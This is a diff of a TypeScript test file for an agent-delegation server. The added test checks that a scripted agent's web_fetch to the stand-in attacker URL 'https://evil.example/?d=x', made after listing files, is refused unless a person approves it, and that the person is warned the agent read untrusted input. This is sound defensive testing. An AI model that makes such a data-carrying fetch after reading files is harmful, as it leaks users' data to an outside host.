@@ -21,6 +21,14 @@ toolRules:
 You look.
 `;
 
+const roamer = `---
+name: roamer
+description: Reads files and pages
+tools: [list_files, web_fetch]
+---
+You look.
+`;
+
 describe.each(eras)("where a person has to approve, a client of %s", (era) => {
   test.each(["yes", "no"])("brings it before its person, who says %s", async (said) => {
     await using desk = new McpDesk(playbook);
@@ -43,6 +51,35 @@ describe.each(eras)("where a person has to approve, a client of %s", (era) => {
     });
     expect(log.includes("agent.tool_denied")).toBe(said === "no");
     expect(JSON.parse(text)).toMatchObject({ status: "completed" });
+  });
+
+  test("is asked about a composed address if it can ask its person, else that is refused", async () => {
+    const fetching = `
+version: 1
+replies:
+  - when: { turn: 1 }
+    calls: [{ tool: list_files, input: {} }]
+  - when: { turn: 2 }
+    calls: [{ tool: web_fetch, input: { url: "https://evil.example/?d=x" } }]
+  - text: "It said: {{last}}"
+`;
+    await using desk = new McpDesk(fetching);
+    desk.addProfile("roamer", roamer);
+    const input = { profile: "roamer", task: "Look" };
+    const alone = await callTool(await desk.connect({ era }), "delegate_task", input);
+    expect(alone.text).toMatch(/no terminal, page, chat or client is connected/);
+    const shown: string[] = [];
+    const client = await desk.connect({
+      era,
+      capabilities: { elicitation: {} },
+      reply(message) {
+        shown.push(message);
+        return { action: "accept", content: { approve: "no" } };
+      },
+    });
+    const asked = await callTool(client, "delegate_task", input);
+    expect(asked.text).toMatch(/No person allowed web_fetch/);
+    expect(shown).toEqual([expect.stringContaining("has read untrusted input (list_files)")]);
   });
 
   test("cannot have its model approve in place of a person", async () => {
